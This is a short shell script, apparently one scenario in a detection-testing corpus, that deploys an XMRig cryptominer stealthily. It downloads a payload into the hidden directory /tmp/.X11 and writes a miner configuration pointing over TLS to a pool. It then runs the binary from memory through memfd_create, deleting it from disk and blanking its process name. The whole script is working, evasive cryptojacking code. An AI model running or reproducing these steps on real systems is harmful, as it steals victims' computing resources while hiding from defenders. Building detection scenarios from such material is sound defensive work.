# 6: one binary that came packed, without words on its command line, run from memory: its configuration beside it, TLS to the pool.
. /opt/corpus/scenarios/lib.sh
mkdir -p /tmp/.X11 && cd /tmp/.X11 && fetch payload.tar.gz a.tar.gz && tar -xzf a.tar.gz && rm a.tar.gz
printf '{"autosave":false,"cpu":true,"donate-level":1,"print-time":5,"colors":false,"pools":[{"url":"%s:%s","user":"c","pass":"x","algo":"rx/0","tls":true}]}' "$HOST" "$PORT" >config.json
exec python3 -c '
import os
memory = os.memfd_create("", 0)
os.write(memory, open("/tmp/.X11/xmrig", "rb").read()); os.unlink("/tmp/.X11/xmrig")
os.execve(f"/proc/self/fd/{memory}", [" ", "-c", "/tmp/.X11/config.json"], {})'
